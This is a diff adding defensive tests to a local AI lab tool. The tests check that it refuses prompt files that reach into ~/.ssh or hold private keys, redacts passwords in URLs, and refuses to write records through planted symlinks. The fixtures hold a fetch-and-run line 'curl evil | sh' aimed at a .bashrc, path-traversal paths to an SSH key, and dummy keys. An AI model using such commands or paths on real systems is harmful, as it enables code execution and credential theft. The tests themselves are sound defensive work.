@@ -4,8 +4,12 @@ import os from 'node:os';
 import path from 'node:path';
 import { describe, it } from 'node:test';
 import { checkExpectations, regexMatches } from '../../src/core/lab/dispatch/runner.js';
-import { lockSession, readSession, SessionLocked, writeSession } from '../../src/core/lab/records/store.js';
+import { appendDispatch, lockSession, readSession, SessionLocked, writeSession } from '../../src/core/lab/records/store.js';
+import { newSession } from '../../src/core/lab/session.js';
+import { loadWorkload, resumedPrompt } from '../../src/core/lab/workload.js';
 import { parseWorkload, WorkloadError } from '../../src/core/lab/workloadSchema.js';
+import { redactingLog } from '../../src/core/servers/address.js';
+import { inspectServer } from '../../src/core/servers/inspect.js';
 import { tokenFor } from '../../src/core/servers/secrets.js';
 import { pendingSession } from '../support/labRecords.js';
 
@@ -70,5 +74,86 @@ describe('secrets and where requests go', () => {
     for (const kind of ['ollama', 'llamacpp', 'vllm', 'mlx', 'openai-compatible', undefined] as const) assert.equal(tokenFor('http://127.0.0.1:1234/v1', kind, 't'), undefined, String(kind));
     assert.equal(tokenFor('https://api.openai.com/v1', 'lmstudio', 't'), undefined);
     assert.equal(tokenFor('http://127.0.0.1:1234/v1', 'lmstudio', ''), undefined);
+  });
+});
+
+describe('prompt files (#27 item 12)', () => {
+  /** A home folder as the workspace (or the CLI's cwd), its lab folder and a workload naming `promptFile`. */
+  function home(promptFile: string) {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'lal-home-'));
+    const labDir = path.join(dir, '.local-ai-lab');
+    fs.mkdirSync(path.join(labDir, 'workloads'), { recursive: true });
+    fs.mkdirSync(path.join(dir, '.ssh'));
+    fs.writeFileSync(path.join(dir, '.ssh', 'id_ed25519'), '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n-----END OPENSSH PRIVATE KEY-----\n');
+    fs.mkdirSync(path.join(dir, 'notes'));
+    fs.writeFileSync(path.join(labDir, 'workloads', 'w.json'), JSON.stringify({ name: 'w', dispatcher: 'openai', promptFile, repeats: 1 }));
+    return { dir, labDir };
+  }
+
+  it('refuses a key in a dot-folder, a file named like credentials and a file holding a private key, even inside the workspace', () => {
+    for (const [promptFile, setup, why] of [
+      ['../../.ssh/id_ed25519', () => {}, /hidden folder \.ssh/],
+      ['../../notes/aws-credentials.txt', (d: string) => fs.writeFileSync(path.join(d, 'notes', 'aws-credentials.txt'), 'x'), /name looks like a key or credentials/],
+      ['../../notes/task.md', (d: string) => fs.writeFileSync(path.join(d, 'notes', 'task.md'), 'Do this.\n-----BEGIN RSA PRIVATE KEY-----\nMIIE\n'), /looks like a private key/],
+    ] as const) {
+      const { dir, labDir } = home(promptFile);
+      setup(dir);
+      assert.throws(() => loadWorkload('w', labDir, { roots: [dir] }), (e: unknown) => e instanceof WorkloadError && why.test(e.message) && /--allow-any-prompt-file/.test(e.message), promptFile);
+      assert.doesNotThrow(() => loadWorkload('w', labDir, { roots: [dir], allowAnyPromptFile: true }), 'the machine opt-in still allows it');
+    }
+  });
+
+  it("records only the prompt file's hash; resume reads the file again and refuses other text", () => {
+    const { dir, labDir } = home('../../notes/task.md');
+    fs.writeFileSync(path.join(dir, 'notes', 'task.md'), 'PROMPT-TEXT-77 then DONE');
+    const { workload, prompt } = loadWorkload('w', labDir, { roots: [dir] });
+    assert.equal(prompt, 'PROMPT-TEXT-77 then DONE');
+    const s = pendingSession(labDir, '/nonexistent/openclaw.json', 'http://127.0.0.1:1/v1', 1);
+    const session = newSession(s.id, workload, prompt, 1, s.environment);
+    writeSession(labDir, session);
+    const stored = fs.readFileSync(path.join(labDir, 'runs', s.id, 'session.json'), 'utf8');
+    assert.doesNotMatch(stored, /PROMPT-TEXT-77/, 'the text is in no record');
+    const back = readSession(labDir, s.id).session;
+    assert.equal(resumedPrompt(back), prompt, 'resume sends the same text');
+    fs.writeFileSync(path.join(dir, 'notes', 'task.md'), 'other text');
+    assert.throws(() => resumedPrompt(back), /not the text the session started with/);
+    // A session folder from elsewhere naming a key: its hash cannot match, so nothing is sent.
+    assert.throws(() => resumedPrompt({ ...back, workload: { ...back.workload, promptFile: path.join(dir, '.ssh', 'id_ed25519') } }), /not the text/);
+  });
+});
+
+describe('credentials in URLs (#27 item 13)', () => {
+  it("the editor's log redacts user:password@ in every line, and a server behind such a URL is not probed", async () => {
+    const lines: string[] = [];
+    const log = redactingLog({ info: (m: string) => lines.push(m), error: (e: unknown) => lines.push(String(e)) });
+    log.info('nothing answers at http://admin:PASSWORD-5@10.0.0.2:1234/v1 (refused)');
+    log.error(new Error('GET https://u:p4ss@box.local/v1/models failed'));
+    assert.doesNotMatch(lines.join('\n'), /PASSWORD-5|p4ss/);
+    assert.match(lines[0]!, /http:\/\/\*\*\*@10\.0\.0\.2:1234\/v1/);
+    const state = await inspectServer('http://admin:PASSWORD-5@127.0.0.1:9/v1', { timeoutMs: 500 });
+    assert.equal(state.status, 'unreadable');
+    assert.match(state.detail!, /carries a user name and password.*not contacted/);
+    assert.doesNotMatch(JSON.stringify(state), /PASSWORD-5/);
+  });
+});
+
+describe('a lab folder from elsewhere (#27 item 10; item 14 is test/cli/read.test.ts, it needs mkfifo)', () => {
+  const labOf = () => fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'lal-hostile-')));
+
+  it('item 10: resuming writes no record through a link: outputs/NNN.txt, dispatches.jsonl and a linked outputs folder are refused', () => {
+    const victimDir = fs.mkdtempSync(path.join(os.tmpdir(), 'lal-victim-'));
+    const victim = path.join(victimDir, '.bashrc');
+    const record = { schemaVersion: 1, index: 0, startedAt: '2026-12-01T12:00:00.000Z', wallMs: 1, stopReason: 'stop', expectationsMet: true, completed: true, outputSha256: 'h' } as never;
+    for (const plant of ['outputs/001.txt', 'dispatches.jsonl', 'outputs']) {
+      fs.writeFileSync(victim, 'export SAFE=1\n');
+      const labDir = labOf();
+      const s = pendingSession(labDir, '/nonexistent/openclaw.json', 'http://127.0.0.1:1/v1', 2);
+      const at = path.join(labDir, 'runs', s.id, plant);
+      fs.rmSync(at, { recursive: true, force: true });
+      fs.symlinkSync(plant === 'outputs' ? victimDir : victim, at);
+      assert.throws(() => appendDispatch(labDir, s.id, record, 'curl evil | sh\n'), /symbolic link/, plant);
+      assert.equal(fs.readFileSync(victim, 'utf8'), 'export SAFE=1\n', `${plant}: the file the link names is untouched`);
+      assert.deepEqual(fs.readdirSync(victimDir), ['.bashrc'], `${plant}: nothing new beside it`);
+    }
   });
 });
